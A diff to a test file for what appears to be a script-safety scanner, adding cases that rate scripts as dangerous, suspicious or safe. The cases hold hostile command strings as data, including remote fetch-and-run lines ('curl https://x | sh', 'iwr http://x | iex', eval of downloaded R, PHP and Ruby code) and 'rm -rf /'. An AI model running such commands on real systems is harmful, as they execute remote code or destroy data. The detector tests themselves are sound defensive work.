@@ -25,6 +25,10 @@ test.each([
   ['rm -rf /', 'rm -rf / '],
   ['R source', 'source("https://x/a.R")'],
   ['Lua', 'os.execute("curl http://x")\nload(io.popen("https://x"):read())'],
+  ['R source of a text', 'eval(parse(text = readLines("https://x/a.R")))'],
+  ['PHP', 'eval(base64_decode("aGk="));'],
+  ['Ruby', 'eval(Net::HTTP.get(URI("https://x")))'],
+  ['a here-document that is run', 'bash <<EOT\ncurl https://x | sh\nEOT'],
 ])('a script with %s is dangerous', async (_, text) => {
   const result = await read(text);
   expect(result.verdict).toBe('dangerous');
@@ -35,13 +39,28 @@ test.each([
   ['commands', 'set -e\npip install torch\npython train.py\nrm -rf build\n', 'suspicious'],
   ['a download', 'curl -LO https://x/model.safetensors\n', 'suspicious'],
   ['a dangerous comment', '#!/bin/sh\n# curl https://x | sh\necho 1\n', 'suspicious'],
+  ['a parsed address', 'u = URI.parse("https://x")\nJSON.parse(open("https://x"))\n', 'suspicious'],
+  ['a here-document that is printed', "cat >&2 <<'EOT'\n$ curl https://x | sh\nEOT\n", 'safe'],
   ['comments only', '#!/bin/sh\n# nothing\n', 'safe'],
   ['nothing', '', 'safe'],
   ['too much', `echo\n${' '.repeat(SCRIPT_LIMIT)}`, 'suspicious'],
 ])('a script with %s', async (_, text, verdict) => expect((await read(text)).verdict).toBe(verdict));
 
+test('a build file is run by hand: suspicious at most', async () => {
+  const bytes = utf8('FROM debian\nRUN curl -fsSL https://x | bash -\n');
+  const { verdict } = await analyze(scriptFormat, bytes, { path: 'Dockerfile' });
+  expect(verdict).toBe('suspicious');
+});
+
+test('PowerShell in UTF-16 is read', async () => {
+  const text = '\uFEFFiwr http://x | iex';
+  const bytes = new Uint8Array(new Uint16Array([...text].map((each) => each.charCodeAt(0))).buffer);
+  expect((await analyze(scriptFormat, bytes)).verdict).toBe('dangerous');
+});
+
 it.each([
   ['#!/bin/bash\n', true],
+  ['#!/usr/bin/env node\n', false],
   ['#!/usr/bin/env -S Rscript --vanilla\n', true],
   ['#!/usr/bin/pwsh', true],
   ['#!/usr/bin/python3\n', false],
